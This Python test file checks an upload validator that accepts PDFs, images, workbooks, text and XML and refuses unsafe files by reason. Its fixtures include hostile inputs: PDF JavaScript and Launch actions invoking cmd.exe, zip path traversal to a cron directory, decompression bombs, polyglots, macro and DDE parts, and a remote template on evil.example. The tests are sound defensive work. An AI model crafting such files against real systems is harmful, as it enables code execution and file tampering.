"""Uploaded files: what is kept, and what is refused for which reason."""

import hashlib
import io
import zipfile
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from compliance.core.uploads import ENDINGS, FileRefused, file_check

PDF = b"%%PDF-1.7\n1 0 obj\n<< /Type /Catalog %s >>\nendobj\ntrailer << /Root 1 0 R >>\n%%%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"pixels" + b"\x00\x00\x00\x00IEND\xaeB`\x82"
JPEG = b"\xff\xd8\xff\xe0" + b"pixels" + b"\xff\xd9"


def workbook(**parts: bytes) -> bytes:
    """A real workbook, with further parts put into its archive."""
    made = Workbook()
    made.active.append(["Lead", 0.05])
    plain, full = io.BytesIO(), io.BytesIO()
    made.save(plain)
    with zipfile.ZipFile(plain) as before, zipfile.ZipFile(full, "w", zipfile.ZIP_DEFLATED) as after:
        for name in before.namelist():
            after.writestr(name, parts.pop(name, None) or before.read(name))
        for name, content in parts.items():
            after.writestr(name, content)
    return full.getvalue()


def pdf(inside: bytes = b"") -> bytes:
    return PDF % inside


def object_stream(inside: bytes, extra: bytes = b"") -> bytes:
    packed = zlib.compress(inside)
    objects = b"/Type /ObjStm /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream <<" % (
        len(packed),
        packed,
    )
    return pdf(objects + extra)


def check(content: bytes, name: str):
    return file_check(io.BytesIO(content), name=name)


def refused(content: bytes, name: str) -> str:
    with pytest.raises(FileRefused) as fault:
        check(content, name)
    return fault.value.code


@pytest.mark.parametrize(
    ("content", "name", "kind"),
    [
        (pdf(), "report.pdf", "pdf"),
        (pdf(b"/OpenAction [1 0 R /Fit]"), "REPORT.PDF", "pdf"),
        (object_stream(b"1 0 << /Type /Pages >>"), "report.pdf", "pdf"),
        (PNG, "../../scan.png", "png"),
        (JPEG, "C:\\scans\\a.jpeg", "jpeg"),
        (b"II*\x00" + b"x" * 40, "scan.tiff", "tiff"),
        (workbook(), "results.xlsx", "xlsx"),
        ("铅含量 0.05 %".encode("gb18030"), "note.txt", "text"),
        ("含铅量".encode("utf-16"), "note.txt", "text"),
        ("cas,ppm\r\n7439-92-1,50\r\n".encode("utf-8-sig"), "note.csv", "text"),
        (b'<?xml version="1.0"?>\n<MainDeclaration xmlns="urn:x"/>', "ipc.xml", "xml"),
    ],
)
def test_what_it_is_stands_in_its_bytes(content, name, kind) -> None:
    found = check(content, name)
    assert (found.kind, found.media_type) == (kind, ENDINGS[kind][0])
    assert (found.size, found.sha256) == (len(content), hashlib.sha256(content).hexdigest())


@pytest.mark.parametrize(
    ("content", "name", "code"),
    [
        (b"", "a.pdf", "empty"),
        (b"x" * (20 * 1024 * 1024 + 1), "a.txt", "too_large"),
        (pdf(), "report.png", "not_as_named"),
        (pdf(), "report", "not_as_named"),
        (PNG, "picture.pdf", "not_as_named"),
        (b"MZ\x90\x00" + b"\x00" * 60, "setup.exe", "unknown_type"),
        (b"MZ\x90\x00" + b"\x00" * 60, "report.pdf", "unknown_type"),
        (b"\x7fELF" + b"\x01" * 60, "report.txt", "unknown_type"),
        (b"%PDF-1.7\n1 0 obj cut", "report.pdf", "broken"),
        (PNG[:-8], "scan.png", "broken"),
        (workbook()[:-40], "results.xlsx", "broken"),
        (pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), "a.pdf", "active_content"),
        (pdf(b"/AA << /S /Java#53cript >>"), "a.pdf", "active_content"),
        (pdf(b"/S /Launch /F (cmd.exe)"), "a.pdf", "active_content"),
        (pdf(b"/Names << /EmbeddedFiles 7 0 R >>"), "a.pdf", "embedded_files"),
        (object_stream(b"<< /S /JavaScript /JS (x) >>"), "a.pdf", "active_content"),
        (object_stream(b"\x00", b"/Encrypt 9 0 R"), "a.pdf", "cannot_inspect"),
        (object_stream(b"\x00" * (65 * 1024 * 1024)), "a.pdf", "unfolds_too_far"),
        (pdf() + b"PK\x05\x06" + b"\x00" * 18, "a.pdf", "two_types"),
        (JPEG[:-2] + b"PK\x05\x06" + b"\x00" * 18 + b"\xff\xd9", "a.jpg", "two_types"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500, "old.doc", "macros"),
        (workbook(**{"xl/vbaProject.bin": b"x"}), "a.xlsx", "macros"),
        (workbook(**{"xl/macrosheets/sheet1.xml": b"<x/>"}), "a.xlsx", "macros"),
        (workbook(**{"xl/activeX/activeX1.xml": b"<x/>"}), "a.xlsx", "macros"),
        (
            workbook(**{"[Content_Types].xml": b"<x t='application/vnd.ms-excel.sheet.macroEnabled'/>"}),
            "a.xlsx",
            "macros",
        ),
        (workbook(**{"xl/embeddings/oleObject1.bin": b"x"}), "a.xlsx", "embedded_files"),
        (workbook(**{"../../etc/cron.d/x": b"x"}), "a.xlsx", "outside_path"),
        (workbook(**{"C:\\x.txt": b"x"}), "a.xlsx", "outside_path"),
        (workbook(**{"xl/zeros.txt": b"\x00" * (30 * 1024 * 1024)}), "a.xlsx", "unfolds_too_far"),
        (workbook(**{f"xl/p{n}.txt": b"" for n in range(2_001)}), "a.xlsx", "unfolds_too_far"),
        (workbook(**{"XL/WORKBOOK.xml": b"<x/>"}), "a.xlsx", "broken"),
        (
            workbook(**{"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/>'}),
            "a.xlsx",
            "active_content",
        ),
        (
            workbook(
                **{
                    "word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" '
                    b'Target="https://evil.example/t.dotm" TargetMode="External"/>'
                }
            ),
            "a.xlsx",
            "active_content",
        ),
        (workbook(**{"xl/a.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'}), "a.xlsx", "active_content"),
        (b"<html><body>hello</body></html>", "page.txt", "markup"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"/>', "a.xml", "markup"),
        (b"lead,<script>alert(1)</script>", "a.csv", "markup"),
        (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x/>', "a.xml", "markup"),
    ],
)  # fmt: skip
def test_what_could_harm_is_refused_by_its_reason(content, name, code) -> None:
    assert refused(content, name) == code


def test_a_plain_archive_is_no_document() -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("report.pdf", pdf())
    assert refused(packed.getvalue(), "a.xlsx") == "unknown_type"


def test_the_stream_stands_at_its_start_afterwards() -> None:
    stream = io.BytesIO(pdf())
    file_check(stream, name="a.pdf")
    assert stream.tell() == 0


@settings(deadline=None, max_examples=100, derandomize=True)
@given(
    st.binary(max_size=400),
    st.sampled_from([b"", b"%PDF-1.7", b"PK\x03\x04", b"\x89PNG\r\n\x1a\n", b"<?xml", b"\xff\xfe"]),
    st.sampled_from(["a.pdf", "a.xlsx", "a.txt", "a.png", "a.xml", "a"]),
)
def test_no_bytes_make_the_check_fail_otherwise_than_by_a_refusal(content, start, name) -> None:
    try:
        found = check(start + content, name)
    except FileRefused as fault:
        assert fault.code
    else:
        assert name.endswith(ENDINGS[found.kind][1])
